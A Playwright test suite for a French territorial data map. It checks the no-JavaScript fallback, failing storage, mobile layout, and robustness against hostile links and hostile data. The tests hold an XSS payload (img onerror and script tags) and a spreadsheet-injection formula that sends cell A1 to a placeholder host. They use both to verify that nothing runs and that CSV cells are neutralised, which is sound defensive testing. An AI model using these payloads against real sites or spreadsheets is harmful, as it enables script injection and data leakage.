import type { Page } from '@playwright/test';
import { gzippedJson, manifest, publishInstead, readStartup, tableFile, textColumn, withTexts } from './support/published';
import { expect, test } from './support/test';
import { takeFile, textOf } from './support/files';

test.describe('given no JavaScript', () => {
  test.use({ javaScriptEnabled: false });

  test('then a sentence says what is needed, and that the data can be read', async ({ page, site }) => {
    await page.goto(site);
    const sentence = page.getByRole('paragraph');
    await expect(sentence).toBeVisible();
    await expect(sentence).toContainText('a besoin de JavaScript');
    await expect(sentence).toContainText('Activez-le puis rechargez la page. Les données publiées restent lisibles');
  });
});

test.describe('given a storage that keeps nothing', () => {
  const days: readonly { readonly day: string; readonly spoil: (page: Page) => Promise<unknown> }[] = [
    {
      day: 'full',
      spoil: (page) =>
        page.addInitScript(() => {
          Storage.prototype.setItem = () => {
            throw new DOMException('plein', 'QuotaExceededError');
          };
        }),
    },
    {
      day: 'refused',
      spoil: (page) =>
        page.addInitScript(() => {
          Object.defineProperty(globalThis, 'localStorage', {
            get: () => {
              throw new DOMException('refusé', 'SecurityError');
            },
          });
        }),
    },
  ];

  for (const { day, spoil } of days) {
    test(`when it is ${day}, then choices hold for the visit and the page works`, async ({ app, page }) => {
      await spoil(page);
      await app.open();
      await app.seesMap();
      await page.getByRole('combobox', { name: 'Thème d’affichage' }).selectOption('Thème sombre');
      await expect(page.locator('html')).toHaveAttribute('data-theme', 'sombre');
      const hint = page.getByRole('complementary', { name: 'Première visite' });
      await hint.getByRole('button', { name: /Fermer/u }).click();
      await expect(hint).toBeHidden();
      await app.seesMap();
      await app.engineAnswers();
    });
  }
});

test('given a phone, then the first-visit hint is one row that covers neither the sentence nor the controls', async ({ app, page }) => {
  await page.setViewportSize({ width: 390, height: 844 });
  await app.open();
  const hint = page.getByRole('complementary', { name: 'Première visite' });
  const box = await hint.boundingBox();
  expect(box?.height).toBeLessThan(60);
  for (const other of [page.locator('.sentence'), page.locator('.maplibregl-ctrl-zoom-in'), page.locator('.header')]) {
    const rest = await other.boundingBox();
    const apart = box !== null && rest !== null && (rest.y >= box.y + box.height || rest.y + rest.height <= box.y || rest.x >= box.x + box.width);
    expect(apart, await other.getAttribute('class') ?? '').toBe(true);
  }
  await hint.getByRole('button', { name: 'Première visite ?' }).click();
  await hint.getByRole('button', { name: 'Grand public' }).click();
  await expect(hint).toContainText('code postal');
});

/** Markup that would call `attaque` if anything took it for markup. */
const markup = '<img src=x onerror="attaque()"><script>attaque()</script>';
const longMarkup = markup.repeat(Math.ceil(20_000 / markup.length)).slice(0, 20_000);

/** Counts what markup of the attacker ran or became. */
async function watchAttacks(page: Page): Promise<() => Promise<{ readonly ran: number; readonly elements: number }>> {
  let ran = 0;
  await page.exposeFunction('attaque', () => {
    ran += 1;
  });
  return async () => ({ ran, elements: await page.locator('img[src="x"], [onerror], body script').count() });
}
const harmless = { ran: 0, elements: 0 };

test.describe('given a hostile link', () => {
  const keys = ['vue', 't', 'i', 'a', 'c', 'b', 'p', 'act', 'ac', 'aa', 'at', 'ap', 'as', 's', 'm', 'fond'] as const;
  /** Filters by name take any line of text: they match nothing, and are kept as text. */
  const names = new Set<string>(['ac', 'aa', 'at', 'ap']);

  test('when it holds 20 kB of markup, then it is left out whole, shown as text and cut short', async ({ app, page }) => {
    const attacks = await watchAttacks(page);
    await app.open(`t=${encodeURIComponent(longMarkup)}`);
    await app.seesMap();
    const sentence = app.notice('Une partie du lien n’a pas pu être lue');
    await expect(sentence).toContainText('lien « t=%3Cimg');
    expect((await sentence.innerText()).length).toBeLessThan(400);
    expect(await attacks()).toEqual(harmless);
    await expect(app.panel).toContainText('Brenne');
  });

  test('when any one field is hostile, short or of 20 kB, then that field falls back, the others stand, and nothing runs', async ({ app, page }) => {
    const attacks = await watchAttacks(page);
    await app.open('t=cls:agglopolys');
    await app.seesMap();
    const go = (fragment: string): Promise<void> =>
      page.evaluate((hash) => {
        location.hash = hash;
      }, fragment);
    const sentence = app.notice('Une partie du lien');
    for (const key of keys) {
      // A field that names the territory would be the one that falls back.
      const beside = key === 't' ? 'i=revenu_median' : 't=cls:loue-lison';
      await go(`${beside}&${key}=${encodeURIComponent(markup)}`);
      await expect(app.panel, key).toContainText(key === 't' ? 'Niveau de vie médian' : 'Loue Lison');
      if (!names.has(key)) await expect(sentence, key).toContainText(markup.slice(0, 40));
      await go(`t=cls:agglopolys&${key}=${encodeURIComponent(longMarkup)}`);
      await expect(sentence, key).toContainText('lien «');
    }
    expect(await attacks()).toEqual(harmless);
    await app.openTab('Actions');
    await go(`t=cls:loue-lison&act=1&ap=${encodeURIComponent(markup)}`);
    await expect(app.panel).toContainText('0 action');
    expect(await attacks()).toEqual(harmless);
  });

  test('when codes have left the COG, then each falls back by itself and the page says which', async ({ app, page }) => {
    // Châteauvieux-les-Fossés joined Éternoz (25223) on 1 January 2025.
    const goneCommune = '25533';
    // A code of the right form that no intercommunality bears.
    const goneEpci = 'epci:240000000';
    expect(textColumn('communes', 'code')).not.toContain(goneCommune);
    expect(textColumn('territoires', 'id')).not.toContain(goneEpci);
    await app.open(`t=cls:loue-lison&i=revenu_median&s=${goneCommune}`);
    await app.seesMap();
    const sentence = app.notice('Une partie du lien n’a pas pu être lue et a été remplacée');
    await expect(sentence).toContainText(`la commune ${goneCommune}`);
    await expect(app.panel).toContainText('Loue Lison');
    await expect(app.panel).toContainText('Niveau de vie médian');
    await expect(page.getByRole('region', { name: /^Fiche/u })).toHaveCount(0);

    await app.open(`t=${goneEpci}&i=revenu_median&a=1998&s=25223`);
    await page.reload();
    await expect(sentence).toContainText(`le territoire ${goneEpci}`);
    await expect(sentence).toContainText('l’année 1998');
    await expect(sentence).not.toContainText('25223');
    await app.seesMap();
    await expect(app.panel).toContainText('Niveau de vie médian');
    await expect(page.getByRole('region', { name: /^Fiche/u })).toBeVisible();
  });
});

test.describe('given hostile texts in the data', () => {
  const formula = '=HYPERLINK("https://exemple.invalid/?"&A1;"Voir")';
  /** Names given to communes of the Brenne. */
  const hostile = new Map([
    ['Chalais', markup],
    ['Tilly', formula],
    ['Ciron', longMarkup],
  ]);

  test.beforeEach(async ({ page }) => {
    const startup = readStartup();
    for (const indicateur of startup.indicateurs) indicateur.source_libelle += ` ${markup}`;
    for (const { communes } of startup.territoires) {
      for (const commune of communes) commune.nom = hostile.get(commune.nom) ?? commune.nom;
    }
    await publishInstead(page, {
      [manifest.demarrage.fichier]: gzippedJson(startup),
      [tableFile('communes')]: withTexts('communes', 'nom', (nom) => hostile.get(nom) ?? nom),
      [tableFile('contrats')]: withTexts('contrats', 'licence_perimetre', (licence) => `${licence} ${markup}`),
      [tableFile('actions')]: withTexts('actions', 'intitule', (intitule) => `${intitule} ${markup}`),
      [tableFile('sources')]: withTexts('sources', 'titre', (titre) => `${titre} ${markup}`),
    });
  });

  test('when they are shown (map, table, sheet, search, actions, sources), then they are text and nothing runs', async ({ app, page }) => {
    const attacks = await watchAttacks(page);
    await app.open('s=36036');
    await app.seesMap();
    await expect(page.locator('.sentence__source').first()).toContainText(markup);
    await expect(page.locator('.maplibregl-ctrl-attrib')).toContainText(markup, { timeout: 60_000 });
    await expect(app.page.getByRole('heading', { level: 2, name: markup })).toBeVisible();
    await app.openTable();
    await expect(app.table.getByRole('row').filter({ hasText: '36036' })).toContainText(markup);
    await app.table.getByRole('searchbox', { name: /Filtrer/u }).fill('36053');
    await expect(app.table.getByRole('row').filter({ hasText: '36053' })).toContainText(markup);
    await app.table.getByRole('button', { name: 'Fermer le tableau' }).click();
    await app.searchField.fill('img src');
    await expect(page.getByRole('option').filter({ hasText: markup }).first()).toBeVisible();
    await app.searchField.fill('');
    await app.openTab('Actions');
    await expect(app.panel).toContainText(markup, { timeout: 60_000 });
    await app.openDonnees();
    await expect(page.locator('#sources')).toContainText(markup);
    expect(await attacks()).toEqual(harmless);
  });

  test('when the table is downloaded, then no cell of the CSV is one that a spreadsheet would run', async ({ app, page }) => {
    await app.open();
    await app.openTable();
    const csv = await textOf(await takeFile(page, app.table.getByRole('button', { name: /^Télécharger/u })));
    expect(csv.startsWith('\ufeff')).toBe(true);
    expect(csv).toContain(`;"'${formula.replaceAll('"', '""')}";`);
    const cells = csv.split(/\r\n|;/u);
    expect(cells.filter((cell) => /^"?[=+@\t]/u.test(cell))).toEqual([]);
  });
});
